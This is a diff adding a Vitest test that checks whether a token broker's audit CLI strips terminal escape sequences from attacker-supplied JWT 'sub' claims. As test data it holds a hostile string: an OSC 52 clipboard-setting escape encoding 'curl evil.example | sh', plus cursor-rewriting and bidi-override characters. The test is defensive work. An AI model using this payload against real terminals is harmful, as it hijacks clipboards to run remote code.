@@ -1,0 +1,65 @@
+import { spawn } from 'node:child_process';
+import { join } from 'node:path';
+import { afterEach, describe, expect, inject, it } from 'vitest';
+import { silentLogger } from '../../src/core/log.ts';
+import { startNodeBroker, type NodeBroker } from '../../src/runtimes/node/start-node-broker.ts';
+import { exchangeForm, freshIssuer, suitePolicies } from '../suites/exchange-suite.ts';
+import { testConfig, writeTree } from './node-harness.ts';
+
+const ROOT = new URL('../..', import.meta.url).pathname;
+function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  const child = spawn(process.execPath, ['src/cli/main.ts', ...args], { cwd: ROOT, env: { ...process.env, ...env } });
+  let stdout = '';
+  let stderr = '';
+  child.stdout.on('data', (chunk) => (stdout += chunk));
+  child.stderr.on('data', (chunk) => (stderr += chunk));
+  return new Promise((resolve) => child.on('close', (code) => resolve({ code, stdout, stderr })));
+}
+
+/** What a terminal acts on rather than shows: C0 controls but tab and newline, DEL and C1 (ESC, BEL, CSI), the bidi overrides and isolates. */
+const isTerminalControl = (code: number): boolean =>
+  (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f) || (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069);
+const terminalControls = (text: string): string[] =>
+  [...text].filter((char) => isTerminalControl(char.codePointAt(0) ?? 0)).map((char) => `U+${(char.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`);
+
+/**
+ * An OSC 52 sequence (a terminal that honours it sets the clipboard to "curl evil.example | sh"), then
+ * "cursor up one line, erase it": what a stranger puts in a token's `sub` to rewrite an auditor's terminal.
+ */
+const HOSTILE = 'x\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[1A\u001b[2K\u202eevil';
+
+const unsigned = (claims: Record<string, unknown>) =>
+  `${Buffer.from(JSON.stringify({ alg: 'ES256', typ: 'JWT', kid: 'k' })).toString('base64url')}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.c2ln`;
+
+describe('what the keyway CLI prints of attacker-chosen record fields', () => {
+  const running: NodeBroker[] = [];
+  afterEach(async () => {
+    await Promise.all(running.splice(0).map((broker) => broker.close()));
+  });
+
+  async function start() {
+    const github = freshIssuer(inject('testIssuerBase'), 'tty-gh');
+    const policies = suitePolicies(github, freshIssuer(inject('testIssuerBase'), 'tty-oidc'));
+    const root = writeTree(Object.fromEntries(Object.entries(policies).map(([path, text]) => [`policies/${path}`, text])));
+    const broker = await startNodeBroker(testConfig(root), { log: silentLogger });
+    running.push(broker);
+    const exchange = async (form: URLSearchParams) => {
+      const response = await fetch(`${broker.url}/token`, { method: 'POST', body: form });
+      return (await response.json()) as Record<string, unknown>;
+    };
+    return { github, root, broker, exchange, dataDir: join(root, 'data') };
+  }
+
+  it('keyway audit query shows the claimed sub of a token that never verified without the escape sequences in it', async () => {
+    const { exchange, dataDir } = await start();
+    const now = Math.floor(Date.now() / 1000);
+    // Anyone who can reach /token can put this in the log: the token need not verify for its claimed sub to be recorded.
+    const refused = await exchange(exchangeForm(unsigned({ iss: 'https://nobody.example', sub: HOSTILE, aud: 'x', iat: now, exp: now + 60 })));
+    expect(refused['error']).toBe('invalid_request');
+
+    const table = await cli(['audit', 'query', '--data-dir', dataDir]);
+    expect(table.code).toBe(0);
+    expect(table.stdout).toContain('issuer_untrusted');
+    expect(terminalControls(table.stdout)).toEqual([]);
+  }, 60_000);
+});
